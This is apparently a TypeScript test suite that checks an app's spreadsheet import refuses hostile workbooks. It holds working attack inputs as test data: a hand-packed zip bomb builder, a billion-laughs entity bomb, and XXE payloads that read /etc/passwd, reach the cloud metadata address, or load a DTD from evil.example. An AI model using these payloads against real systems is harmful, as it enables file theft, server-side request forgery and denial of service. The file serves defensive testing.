import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32, deflateRawSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { afterAll, describe, expect, test } from 'vitest'
import writeExcelFile from 'write-excel-file/node'
import { OUTFIT } from '@/lib/access/viewer'
import { UNPACKED_BYTES_MAX, unpackWorkbook } from '@/lib/exchange/unpack'
import { keepUpload } from '@/lib/exchange/uploads'
import { readWorkbook } from '@/lib/exchange/workbook'

const MB = 1024 * 1024
const SHEET = 'xl/worksheets/sheet1.xml'
const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A workbook of one sheet whose first cell holds `cell`; `prologue` stands before the sheet. */
function workbook(cell: string, prologue = ''): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
  return zipSync({
    '[Content_Types].xml': strToU8(
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    ),
    'xl/workbook.xml': strToU8(
      `<workbook xmlns="${main}" xmlns:r="${RELS}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RELS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    [SHEET]: strToU8(
      `<?xml version="1.0"?>${prologue}<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${cell}</t></is></c></row></sheetData></worksheet>`,
    ),
  })
}

/** An archive of one part, packed by hand: what it says of its size is `said`, what comes out is `bytes` of nothing. */
function bomb(bytes: number, said: number): Uint8Array {
  const data = deflateRawSync(Buffer.alloc(bytes), { level: 9 })
  const name = Buffer.from(SHEET)
  const fields = Buffer.alloc(26)
  fields.writeUInt16LE(20, 0)
  fields.writeUInt16LE(8, 4)
  fields.writeUInt32LE(crc32(Buffer.alloc(0)), 10)
  fields.writeUInt32LE(data.length, 14)
  fields.writeUInt32LE(said, 18)
  fields.writeUInt16LE(name.length, 22)
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), fields, name, data])
  const entry = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), fields, Buffer.alloc(14), name])
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 0, 'latin1')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(entry.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, entry, end])
}

const folder = mkdtempSync(join(tmpdir(), 'wellround-hostile-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

describe('a workbook', () => {
  test('of a spreadsheet program is read as ever', async () => {
    const made = await writeExcelFile([[{ value: 'Alder & "Birch" <spring>' }, { value: 12.5 }]]).toBuffer()
    const read = await readWorkbook(made)
    expect(read).toMatchObject({
      kind: 'workbook',
      sheets: [{ rows: [{ cells: ['Alder & "Birch" <spring>', '12.5'] }] }],
    })
    expect(await readWorkbook(workbook('plain &amp; simple'))).toMatchObject({
      kind: 'workbook',
      sheets: [{ rows: [{ cells: ['plain & simple'] }] }],
    })
  })

  test.each([
    ['as it says itself', 600 * MB, 600 * MB],
    ['while it says that it is small', 600 * MB, 1000],
  ])('that unpacks to 600 MB, %s, is refused, and costs no such memory', async (_how, bytes, said) => {
    const made = bomb(bytes, said)
    expect(made.length).toBeLessThan(MB)
    const before = process.memoryUsage.rss()
    expect(await unpackWorkbook(made)).toMatchObject({ kind: 'refused', hostile: true })
    expect(process.memoryUsage.rss() - before).toBeLessThan(UNPACKED_BYTES_MAX + 100 * MB)
  })

  test('of 60,000 parts is refused before any is unpacked', async () => {
    const parts = Object.fromEntries(
      Array.from({ length: 60_000 }, (_, i) => [`xl/${i}.xml`, strToU8('<a/>')]),
    )
    expect(await unpackWorkbook(zipSync(parts, { level: 0 }))).toMatchObject({
      kind: 'refused',
      hostile: true,
    })
  })

  test.each([
    ['fetches a file of the server', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    ['fetches an address', '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest">]>'],
    ['takes rules from elsewhere', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'],
    [
      'grows without end',
      `<!DOCTYPE x [<!ENTITY a "lol">${[...'bcdefghij'].map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`,
    ],
  ])('whose XML %s is refused, and tells nothing', async (_what, prologue) => {
    const read = await readWorkbook(workbook('&e;&j;', prologue))
    expect(read.kind).toBe('refused')
    expect(JSON.stringify(read)).not.toMatch(/root:|lollol/)
  })

  test('holds no part but those of its directory, whatever lies between them', async () => {
    // A part packed before the rest, which a reader that searches from the start would take for the sheet.
    const hidden = zipSync({ [SHEET]: strToU8('<worksheet><sheetData/></worksheet>') }, { level: 0 })
    const shown = workbook('shown')
    const local = hidden.subarray(0, hidden.length - 22 - 46 - SHEET.length)
    const both = Buffer.concat([local, shown])
    // The directory names places from the start of the file: they move by what was put before.
    const end = both.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'))
    const from = both.readUInt32LE(end + 16) + local.length
    both.writeUInt32LE(from, end + 16)
    for (let at = from; at < end; ) {
      both.writeUInt32LE(both.readUInt32LE(at + 42) + local.length, at + 42)
      at += 46 + both.readUInt16LE(at + 28) + both.readUInt16LE(at + 30) + both.readUInt16LE(at + 32)
    }
    expect(await readWorkbook(both)).toMatchObject({
      kind: 'workbook',
      sheets: [{ rows: [{ cells: ['shown'] }] }],
    })
  })

  test('that was cut short is damage, and not an attack', async () => {
    const whole = workbook('a')
    for (const end of [4, 100, whole.length - 30])
      expect(await unpackWorkbook(whole.subarray(0, end))).toMatchObject({ kind: 'refused', hostile: false })
  })

  test('that is hostile is not even kept when it is uploaded, and the security log says so', async () => {
    const hostile = workbook('&e;', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')
    const kept = await keepUpload(folder, OUTFIT, 'wells.xlsx', hostile, '2026-11-20T12:00:00.000Z')
    expect(kept.kind).toBe('refused')
    expect(readdirSync(folder)).toEqual(['security.log'])
    expect(JSON.parse(readFileSync(join(folder, 'security.log'), 'utf8'))).toMatchObject({
      what: 'file-refused',
      by: null,
      about: 'import',
    })
  })
})
